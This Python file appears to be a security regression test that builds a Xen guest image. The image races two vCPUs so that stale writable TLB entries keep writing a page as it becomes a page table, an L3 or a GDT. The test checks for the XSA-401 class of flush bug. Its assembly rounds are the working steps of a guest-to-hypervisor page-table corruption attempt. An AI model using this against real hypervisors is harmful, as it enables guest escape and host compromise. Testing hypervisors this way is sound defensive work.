"""Two CPUs: tables pinned while the other writes, and stale writable entries of the other CPU's TLB.

vCPU 1 writes to a page for ever, through a mapping its TLB has. vCPU 0 takes the mapping away without a
flush, makes the page a page table, a root, a descriptor table, or gives it away, and looks whether the
other still writes; then back. A broken hypervisor flushes too little, or before the count is taken
(XSA-401), and the other CPU goes on writing a page table. A correct one flushes every CPU that may hold
the old translation before the page has its new use, so that the other CPU faults.
"""

from __future__ import annotations

from guests.attacks.support import (
    EBUSY,
    EINVAL,
    READ_ONLY,
    READ_WRITE,
    attack,
    expect,
    extended,
    label,
    remap,
)
from guests.macros import hypercall, put
from guests.runtime import frame

ROUNDS = 4

SECOND = f"""
second_entry:                           # vCPU 1: write to the page; a fault only counts, and it tries again
    mov dword ptr [rip + running], 1
second_loop:
    mov rax, [rip + value]
    lea rcx, [rip + spare]
    mov [rcx + 4088], rax
    mov [rcx + 8], rax
    inc qword ptr [rip + written]
    pause
    jmp second_loop

second_fault:                           # the hook of both vCPUs: only the writer's store faults
    lea rax, [rip + second_loop]
    cmp [rdi + {frame("rip")}], rax
    jb guard_hook
    lea rcx, [rip + second_fault]
    cmp [rdi + {frame("rip")}], rcx
    jae guard_hook
    mov [rdi + {frame("rip")}], rax
    inc qword ptr [rip + refused]
    ret

wait_for:                               # rdi -> a counter that the other vCPU advances: until it did, twice
    mov rax, [rdi]
    add rax, 2
waiting:
    call yield
    cmp [rdi], rax
    jb waiting
    ret
"""

UP = "\n".join(
    (
        put("trap_hook", "&second_fault"),
        "lea rdi, [rip + trap_table]\nlea rsi, [rip + context + vcpu_guest_context.trap_ctxt]\nmov ecx, 256",
        (
            "copy_trap: mov al, [rdi]\nmovzx eax, al\nshl eax, 4\nmovups xmm0, [rdi]\n"
            "movups [rsi + rax], xmm0\nadd rdi, 16"
        ),
        "dec ecx\njnz copy_trap",
        put("context + vcpu_guest_context.flags", "VGCF_in_kernel"),
        put("context + vcpu_guest_context.user_regs.rip", "&second_entry"),
        put("context + vcpu_guest_context.user_regs.cs", "FLAT_KERNEL_CS", 2),
        put("context + vcpu_guest_context.user_regs.ss", "FLAT_KERNEL_SS", 2),
        put("context + vcpu_guest_context.user_regs.rflags", 0x202),
        put("context + vcpu_guest_context.user_regs.rsp", "&second_stack_top"),
        put("context + vcpu_guest_context.kernel_sp", "&second_stack_top"),
        put("context + vcpu_guest_context.kernel_ss", "FLAT_KERNEL_SS"),
        put("context + vcpu_guest_context.event_callback_eip", "&crash"),
        put("context + vcpu_guest_context.failsafe_callback_eip", "&crash"),
        put("context + vcpu_guest_context.syscall_callback_eip", "&crash"),
        (
            "mov rdi, [rip + start_info_address]\nmov rdi, [rdi + start_info.pt_base]\n"
            "call machine_frame\nshl rax, 12"
        ),
        "mov [rip + context + vcpu_guest_context.ctrlreg + 24], rax",
        hypercall("vcpu_op", "VCPUOP_initialise", 1, "&context"),
        expect("the second vCPU", 0),
        hypercall("vcpu_op", "VCPUOP_stop_periodic_timer", 1, 0),
        hypercall("vcpu_op", "VCPUOP_stop_periodic_timer", 0, 0),
        hypercall("vcpu_op", "VCPUOP_up", 1, 0),
        expect("runs", 0),
        "lea rdi, [rip + written]\ncall wait_for",
    )
)


def unmapped() -> str:
    """Make the page read-only here without a flush: the other CPU's entry stays writable."""
    return "\n".join(
        (
            f"lea rdi, [rip + spare]\ncall machine_frame\nshl rax, 12\nmov rsi, rax\nor rsi, {READ_ONLY}",
            hypercall("update_va_mapping", "rdi", "rsi", 0),
        )
    )


def round_of(title: str, use: str, undo: str) -> str:
    """Change the page's use while the other writes; its contents must stay as they were."""
    again, changed, out = label("round"), label("changed"), label("out")
    return "\n".join(
        (
            f"mov r12d, {ROUNDS}\nxor r13d, r13d",
            f"{again}:",
            put("value", 0),
            "lea rdi, [rip + written]\ncall wait_for",
            unmapped(),
            use,
            f"test rax, rax\njnz {out}",
            put("value", 0x7FF067),
            "lea rdi, [rip + refused]\ncall wait_for",
            "mov rax, [rip + spare + 8]\nor rax, [rip + spare + 4088]",
            f"test rax, rax\njz {changed}\ninc r13d",
            f"{changed}:",
            put("value", 0),
            undo,
            remap("spare", READ_WRITE),
            f"dec r12d\njnz {again}",
            "xor eax, eax",
            f"{out}:",
            expect(f"{title}: is done", 0),
            "mov rax, r13",
            expect(f"{title}: nothing was written", 0),
        )
    )


def build() -> bytes:
    """The image."""
    return attack(
        UP,
        round_of(
            "a page table",
            extended("MMUEXT_PIN_L1_TABLE", "[rip + spare_frame]"),
            extended("MMUEXT_UNPIN_TABLE", "[rip + spare_frame]"),
        ),
        round_of(
            "an L3",
            extended("MMUEXT_PIN_L3_TABLE", "[rip + spare_frame]"),
            extended("MMUEXT_UNPIN_TABLE", "[rip + spare_frame]"),
        ),
        round_of(
            "a GDT",
            put("gdt_list", "[rip + spare_frame]") + "\n" + hypercall("set_gdt", "&gdt_list", 512),
            hypercall("set_gdt", "&gdt_list", 0),
        ),
        put("value", 1),
        "lea rdi, [rip + written]\ncall wait_for",
        extended("MMUEXT_PIN_L1_TABLE", "[rip + spare_frame]"),
        expect("pinned while it is written", EINVAL, EBUSY),
        hypercall("vcpu_op", "VCPUOP_down", 1, 0),
        expect("the second vCPU stops", 0),
        text=(SECOND,),
        data=("value: .quad 0\nwritten: .quad 0\nrefused: .quad 0\nrunning: .quad 0\ngdt_list: .quad 0",),
        bss=(
            ".balign 64, 0\ncontext: .zero sizeof(vcpu_guest_context)",
            ".balign 16, 0\nsecond_stack: .zero 4096\nsecond_stack_top:",
        ),
    )
